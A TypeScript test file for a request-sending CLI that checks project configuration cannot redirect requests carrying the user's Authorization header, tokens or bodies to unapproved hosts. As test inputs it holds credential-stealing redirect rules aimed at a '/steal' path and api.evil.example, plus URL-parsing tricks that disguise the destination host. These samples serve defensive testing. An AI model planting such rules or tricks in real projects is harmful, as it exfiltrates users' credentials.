/** Where a request may go, through the built command line: nothing arrives where the user did not agree. */
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type GrpcTestServer, serveRpcs } from '../../packages/engine/src/node/grpc/servers.fixture.ts';
import { serveHttp, type TestServer } from '../../packages/engine/src/node/http/loopback.fixture.ts';
import { type BuiltCli, openCli } from './run-cli.ts';

let cli: BuiltCli;
let chosen: TestServer;
/** The server that the repository would like to hear from; also a proxy, for names that no test may look up. */
let other: TestServer;
const arrived: { readonly chosen: string[]; readonly other: string[] } = { chosen: [], other: [] };

beforeAll(async () => {
  cli = openCli();
  chosen = await serveHttp((request, response) => {
    arrived.chosen.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`.trim());
    response.end('ok');
  });
  other = await serveHttp((request, response) => {
    arrived.other.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`.trim());
    response.end('stolen');
  });
}, 60_000);
afterAll(async () => {
  await chosen?.close();
  await other?.close();
  cli?.dispose();
});
beforeEach(() => {
  arrived.chosen.length = 0;
  arrived.other.length = 0;
});

let projects = 0;
function project(files: Readonly<Record<string, string>>) {
  const folder = path.join(cli.scratch, `project-${++projects}`);
  mkdirSync(folder);
  const source = `import org.springframework.web.bind.annotation.*;
    @RestController class Orders {
      @GetMapping("/orders") String all() { return null; }
      @PostMapping("/orders") void add(@RequestBody String body) {}
    }`;
  for (const [name, text] of Object.entries({ 'Orders.java': source, ...files }))
    writeFileSync(path.join(folder, name), text);
  const proxied = { http_proxy: other.url, HTTP_PROXY: other.url, no_proxy: '', NO_PROXY: '' };
  return (endpoint: string, ...options: readonly string[]) =>
    cli.runBeside(['send', endpoint, '.', ...options], { cwd: folder, env: proxied });
}

const bearer = ['-H', 'Authorization: Bearer canary-7'] as const;

describe('a rule that moves a request', () => {
  const rules = (line: string) => ({ '.easy.api.config': `# team rules\nhttp.call.before=groovy:${line}\n` });

  test('needs --allow-net for the new host: nothing arrives there', async () => {
    const send = project(rules(`request.setUrl("${other.url}/steal")`));
    const refused = await send('GET /orders', '--host', chosen.url, ...bearer);
    expect(arrived).toEqual({ chosen: [], other: [] });
    expect(refused.status).toBe(1);
    expect(refused.stdout).toBe('');
    expect(refused.stderr).toContain(
      `The rule http.call.before in .easy.api.config:2 moves this request from ${chosen.url} to ${other.url}. ` +
        `Authorization would go there. Nothing was sent. Allow it with --allow-net 127.0.0.1:${other.port}.`,
    );
    expect(refused.stderr).not.toContain('canary-7');

    const allowed = await send(
      ...(['GET /orders', '--host', chosen.url, '--allow-net', `127.0.0.1:${other.port}`] as const),
      ...bearer,
    );
    expect(allowed.stdout).toBe('stolen');
    expect(arrived).toEqual({ chosen: [], other: ['GET /steal Bearer canary-7'] });
  });

  test.each([
    ['a user that looks like the host', (to: string, from: string) => `http://${to}\\\\@${from}/x`],
    ['two users', (to: string, from: string) => `http://a@${from}@${to}/x`],
    ['no slashes', (to: string) => `http:${to}/x`],
    ['a tab in the scheme', (to: string) => `ht\\ttp://${to}/x`],
    ['another spelling of the address', (to: string) => `http://${to.replace('127.0.0.1', '127.1')}/x`],
  ])('finds it behind %s', async (_how, urlOf) => {
    const url = urlOf(`127.0.0.1:${other.port}`, `127.0.0.1:${chosen.port}`);
    const send = project(rules(`request.setUrl("${url}")`));
    const { status } = await send('GET /orders', '--host', chosen.url, ...bearer);
    expect(arrived.other).toEqual([]);
    expect(arrived.chosen).toEqual([]);
    expect(status).toBe(1);
  });

  test('is one as well where it names another host in the Host header', async () => {
    const send = project(rules('request.setHeader("Host", "tenant-b.example")'));
    const { stderr } = await send('GET /orders', '--host', chosen.url, ...bearer);
    expect(arrived.chosen).toEqual([]);
    expect(stderr).toContain('to http://tenant-b.example:80.');
  });

  test('is none where only the path changes', async () => {
    const send = project(rules(`request.setUrl("${chosen.url.replace('http', 'HTTP')}/orders/all?x=1")`));
    expect((await send('GET /orders', '--host', chosen.url, ...bearer)).stdout).toBe('ok');
    expect(arrived.chosen).toEqual(['GET /orders/all?x=1 Bearer canary-7']);
  });
});

describe('a host that the repository names', () => {
  const shared = { 'http-client.env.json': JSON.stringify({ dev: { baseUrl: 'http://api.evil.example' } }) };
  const ownToken = { 'http-client.private.env.json': JSON.stringify({ dev: { token: 'canary-7' } }) };

  test('gets no header of the user, unless the user agrees to the host', async () => {
    const send = project(shared);
    const refused = await send('GET /orders', '--env', 'dev', ...bearer);
    expect(arrived.other).toEqual([]);
    expect(refused.status).toBe(1);
    expect(refused.stderr).toContain(
      'The host http://api.evil.example:80 is named by the project, not by you, and Authorization would go there. Nothing was sent. ' +
        'Name the host with --host URL, or allow it with --allow-net api.evil.example.',
    );
    expect(refused.stderr).not.toContain('canary-7');

    for (const consent of [
      ['--host', 'http://api.evil.example'],
      ['--allow-net', 'api.evil.example'],
    ])
      expect((await send('GET /orders', '--env', 'dev', ...bearer, ...consent)).stdout).toBe('stolen');
    expect(arrived.other).toHaveLength(2);
  });

  test('gets no value of a private environment', async () => {
    const rule = 'method.additional.header={"name":"X-Note","value":"{{token}}","required":true}\n';
    const send = project({ ...shared, ...ownToken, '.easy.api.config': rule });
    const { stderr, status } = await send('GET /orders', '--env', 'dev');
    expect([arrived.other, status]).toEqual([[], 1]);
    expect(stderr).toContain('and {{token}} would go there');
    expect(stderr).not.toContain('canary-7');
  });

  test('gets no secret in a body or a parameter', async () => {
    const send = project(shared);
    for (const option of [
      ['-d', '{"password": "canary-7"}'],
      ['-p', 'access_token=canary-7'],
    ])
      expect((await send('POST /orders', '--env', 'dev', ...option)).status).toBe(1);
    expect(arrived.other).toEqual([]);
  });

  test.each([
    [
      'a property',
      { 'application.properties': 'server.port=1\n', '.easy.api.config': 'host=http://api.evil.example\n' },
    ],
    ['postman.host', { '.easy.api.config': 'postman.host=http://api.evil.example\n' }],
    [
      'a client',
      {
        'Orders.java':
          '@FeignClient(name = "o", url = "http://api.evil.example") interface Orders { @GetMapping("/orders") String all(); }',
      },
    ],
  ])('is no better where it comes from %s', async (_what, files) => {
    await project(files)('GET /orders', ...bearer);
    expect(arrived.other).toEqual([]);
  });

  test('is asked for nothing where nothing of the user goes there, nor on this machine', async () => {
    const send = project(shared);
    expect((await send('GET /orders', '--env', 'dev', '-H', 'Accept: text/plain')).stdout).toBe('stolen');
    const here = project({ 'http-client.env.json': JSON.stringify({ dev: { baseUrl: chosen.url } }) });
    expect((await here('GET /orders', '--env', 'dev', ...bearer)).stdout).toBe('ok');
  });
});

describe('a host of an rpc that the repository names', () => {
  const proto = `syntax = "proto3"; package g; message Name { string name = 1; }
    service Greeter { rpc Greet(Name) returns (Name); }`;
  const sources = (base: string): readonly (readonly [what: string, files: Record<string, string>])[] => [
    ['a shared environment', { 'http-client.env.json': JSON.stringify({ dev: { base } }) }],
    ['a rule file', { '.easy.api.config': `base=${base}\n`, 'http-client.env.json': '{"dev": {}}' }],
  ];
  const greet = ['GRPC /g.Greeter/Greet', '--env', 'dev', '--host', 'grpc://{{base}}'] as const;
  const calls: string[] = [];
  let server: GrpcTestServer;
  beforeAll(async () => {
    server = await serveRpcs({
      '/g.Greeter/Greet': (call) => {
        calls.push(...call.metadata.get('authorization').map(String));
        call.on('data', (bytes: Buffer) => call.write(bytes));
        call.on('end', () => call.end());
      },
    });
  });
  afterAll(() => server?.close());

  test.each(sources('api.evil.example:50051'))(
    'gets nothing of the user where it comes from %s',
    async (_what, files) => {
      const send = project({ 'greeter.proto': proto, ...files });
      for (const [option, what] of [
        [bearer, 'Authorization'],
        [['-d', '{"name": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI3In0.c2lnbmF0dXJl"}'], 'the message'],
      ] as const) {
        const { status, stdout, stderr } = await send(...greet, ...option);
        expect([status, stdout]).toEqual([1, '']);
        expect(stderr).toContain(
          `The host http://api.evil.example:50051 is named by the project, not by you, and ${what} would go there. Nothing was sent.`,
        );
        expect(stderr).not.toMatch(/^GRPC|canary-7/m);
      }
    },
  );

  test('is called on this machine', async () => {
    for (const [, files] of sources(server.host)) {
      const { status } = await project({ 'greeter.proto': proto, ...files })(...greet, ...bearer);
      expect(status).toBe(0);
    }
    expect(calls).toEqual(['Bearer canary-7', 'Bearer canary-7']);
  });
});
